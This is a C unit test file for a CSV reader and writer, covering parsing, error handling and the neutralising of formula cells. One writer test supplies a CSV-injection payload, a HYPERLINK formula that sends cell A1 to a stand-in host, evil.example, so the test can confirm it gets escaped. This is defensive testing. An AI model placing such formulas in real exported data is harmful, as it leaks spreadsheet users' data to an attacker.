/* Unit tests: the CSV reader and writer. */
#include "buf.h"
#include "csv.h"
#include "tap.h"

static int
read_all(const char *text, struct csv_reader *r, struct csv_record *recs, int max)
{
	int n = 0, rc;

	csv_init(r, text, strlen(text));
	while (n < max && (rc = csv_next(r, &recs[n])) == 1)
		n++;
	return rc == -1 ? -1 : n;
}

/* One row written by the writer: cells in order, each "t:" text or "n:" number (NULL: a
 * NULL text cell). Returns the row, without its CRLF, in b. */
static const char *
write_row(struct buf *b, const char *const *cells, int n)
{
	struct csv_writer w;

	buf_reset(b);
	buf_append(b, "", 0);
	csv_writer_init(&w, b);
	for (int i = 0; i < n; i++) {
		if (cells[i] == NULL)
			csv_text(&w, NULL);
		else if (cells[i][0] == 'n')
			csv_number(&w, cells[i] + 2);
		else
			csv_text(&w, cells[i] + 2);
	}
	csv_end_row(&w);
	if (b->len >= 2 && strcmp(b->data + b->len - 2, "\r\n") == 0)
		b->data[b->len -= 2] = '\0';
	return b->data;
}

static void
writer_tests(void)
{
	static const char *const plain[] = { "t:plain", "t:a,\"b\"\nc", NULL, "t:" };
	static const char *const formulas[] = {
	    "t:=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")", "t:+1", "t:-1+2",
	    "t:@SUM(A1)", "t:\t=1", "t:\r=1" };
	static const char *const numbers[] = { "n:-12", "n:3.50", "n:0", "n:=1+1", "n:-1e5",
	    "n:12.", NULL };
	static const char *const inner[] = { "t:a=1", "t:Vân Đồn - Hạ Long", "t:x@y.vn" };
	struct buf b;
	struct csv_reader r;
	struct csv_record rec;

	buf_init(&b);
	is_str(write_row(&b, plain, 4), "plain,\"a,\"\"b\"\"\nc\",,",
	    "text is quoted only when it needs it; NULL and empty are empty cells");
	is_str(write_row(&b, formulas, 6),
	    "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"x\"\")\","
	    "\"'+1\",\"'-1+2\",\"'@SUM(A1)\",\"'\t=1\",\"'\r=1\"",
	    "a text cell starting = + - @ TAB or CR gets a leading quote");
	is_str(write_row(&b, numbers, 7), "-12,3.50,0,\"'=1+1\",\"'-1e5\",12.,",
	    "plain decimals stay numbers; anything else given as a number is text");
	is_str(write_row(&b, inner, 3), "a=1,Vân Đồn - Hạ Long,x@y.vn",
	    "the characters are harmless after the first");
	/* what the writer wrote reads back as the neutralised text */
	write_row(&b, formulas, 1);
	csv_init(&r, b.data, b.len);
	ok(csv_next(&r, &rec) == 1 && rec.count == 1 && rec.fields[0][0] == '\'' &&
	    strcmp(rec.fields[0] + 1, formulas[0] + 2) == 0, "a neutralised cell reads back as "
	    "the quote and the original text");
	csv_record_free(&rec);
	buf_free(&b);
}

int
main(void)
{
	struct csv_reader r;
	struct csv_record rec[8];
	int n;

	n = read_all("\xef\xbb\xbfid,name\r\n1,\"Vân Đồn, \"\"A\"\"\"\r\n2,\"two\nlines\"\n\n3,\n", &r, rec, 8);
	ok(n == 4, "four records, the BOM and a blank line skipped (%d)", n);
	is_str(rec[0].fields[0], "id", "the BOM is not part of the first field");
	is_str(rec[1].fields[1], "Vân Đồn, \"A\"", "quotes, commas and doubled quotes");
	is_str(rec[2].fields[1], "two\nlines", "a newline inside quotes");
	ok(rec[3].line == 6 && rec[3].count == 2 && rec[3].fields[1][0] == '\0',
	    "line numbers count every line; a trailing empty field (line %u)", rec[3].line);
	for (int i = 0; i < n; i++)
		csv_record_free(&rec[i]);

	ok(read_all("a,\"open\n", &r, rec, 8) == -1 && strstr(r.error, "not closed"),
	    "an unclosed quote is refused: %s", r.error);
	csv_record_free(&rec[0]);
	ok(read_all("a,\"x\"y\n", &r, rec, 8) == -1 && strstr(r.error, "after a closing quote"),
	    "text after a closing quote is refused: %s", r.error);
	ok(read_all("ok\nb,\xff\n", &r, rec, 8) == -1 && strncmp(r.error, "line 2", 6) == 0,
	    "invalid UTF-8 is refused with its line: %s", r.error);
	csv_record_free(&rec[0]);
	ok(read_all("a,b\"c\n", &r, rec, 8) == -1, "a stray quote is refused");
	writer_tests();
	return done();
}
